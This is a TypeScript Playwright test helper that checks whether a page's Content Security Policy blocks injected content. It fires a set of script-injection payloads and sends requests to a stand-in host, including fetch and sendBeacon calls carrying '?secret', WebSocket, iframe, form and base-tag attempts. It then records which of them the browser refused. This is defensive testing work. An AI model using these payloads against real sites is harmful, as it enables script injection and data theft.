import type { Frame, Page } from "playwright-core";

/** The results of attempts to run injected code in a page, or to reach other servers. */
export interface Injected {
  /** The attempts that succeeded; none if the page's policy holds. */
  readonly ran: readonly string[];
  /** The directives of the policy that were broken so far. */
  readonly refused: readonly string[];
}

/** The directives by which the browser refuses the attempts, once it has decided on all of them. */
export const refusals: readonly string[] = [
  ...["base-uri", "connect-src", "form-action", "frame-src", "img-src", "require-trusted-types-for"],
  ...["script-src-elem", "style-src-attr", "style-src-elem"],
];

/** Where another server would be; nothing answers there. */
export const elsewhere = "http://elsewhere.test";

/** Runs in the page, so it must not use anything outside. */
async function attemptAll(otherServer: string): Promise<void> {
  const [ran, refused] = [new Set<string>(), new Set<string>()];
  Reflect.set(window, "injected", () => ({ ran: [...ran], refused: [...refused] }));
  Reflect.set(window, "ranInPage", (what: string) => ran.add(what));
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.add(effectiveDirective));
  const add = <Name extends keyof HTMLElementTagNameMap>(name: Name, attributes: Readonly<Record<string, string>>) => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    return document.body.appendChild(element);
  };
  const attempts: Readonly<Record<string, () => unknown>> = {
    html: () => {
      document.body.appendChild(document.createElement("div")).innerHTML = `<img src="x" onerror="ranInPage('html')">`;
    },
    write: () => document.write("<p>written</p><script>ranInPage('write')</script>"),
    inlineScript: () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("ranInPage('inlineScript')"));
      document.body.append(script);
    },
    otherScript: () => add("script", { src: `${otherServer}/script.js` }),
    ownScript: () => add("script", { src: "data:text/javascript,ranInPage('ownScript')" }),
    handler: () => add("img", { src: "data:image/png,x", onerror: "ranInPage('handler')" }),
    link: () => add("a", { href: "javascript:ranInPage('link')" }).click(),
    evaluated: () => Reflect.get(window, "eval")("ranInPage('evaluated')"),
    timer: () => Reflect.apply(setTimeout, window, ["ranInPage('timer')", 0]),
    worker: () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    otherStyle: () => add("link", { rel: "stylesheet", href: `${otherServer}/style.css` }),
    otherImage: () => add("img", { src: `${otherServer}/pixel.png` }),
    otherFrame: () => add("iframe", { src: `${otherServer}/` }),
    otherObject: () => add("object", { data: `${otherServer}/object` }),
    request: () => fetch(`${otherServer}/?secret`).catch(() => undefined),
    beacon: () => navigator.sendBeacon(`${otherServer}/?secret`),
    socket: () => new WebSocket(otherServer.replace("http", "ws")),
    form: () => add("form", { action: `${otherServer}/`, target: "_blank" }).requestSubmit(),
    base: () => add("base", { href: `${otherServer}/` }),
  };
  // From a timer, as the page's own code would: what a debugger evaluates may do more.
  await new Promise<void>((resolve) => {
    setTimeout(() => {
      for (const attempt of Object.values(attempts)) {
        try {
          attempt();
        } catch {
          // Refused on the spot.
        }
      }
      const marked = add("p", { style: "position: fixed" });
      const sheet = document.createElement("style");
      sheet.append("body { text-indent: 77px }");
      document.body.append(sheet);
      if (getComputedStyle(marked).position === "fixed") ran.add("style attribute");
      if (getComputedStyle(document.body).textIndent === "77px") ran.add("style element");
      if (document.baseURI.startsWith(otherServer)) ran.add("base");
      resolve();
    }, 0);
  });
}

/**
 * Tries to put code, styles and pictures of another server into a page, by all ways that markup
 * which got in by mistake would have.
 */
export const injectAll = (page: Page | Frame): Promise<void> => page.evaluate(attemptAll, elsewhere);

/** What has become of it so far. */
export const injected = (page: Page | Frame): Promise<Injected> =>
  page.evaluate(() => Reflect.get(window, "injected")());
